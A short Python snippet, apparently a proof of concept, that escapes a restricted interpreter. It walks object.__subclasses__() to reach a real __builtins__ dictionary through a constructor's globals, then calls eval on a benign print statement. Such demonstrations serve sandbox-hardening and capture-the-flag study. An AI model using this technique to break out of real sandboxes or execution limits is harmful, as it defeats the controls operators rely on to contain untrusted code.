"""The builtins as sandboxes are usually left: through the subclasses of object."""
for kind in object.__subclasses__():
    names = getattr(kind.__init__, "__globals__", {}).get("__builtins__")
    if isinstance(names, dict):
        names["eval"]("print('data')")
        break
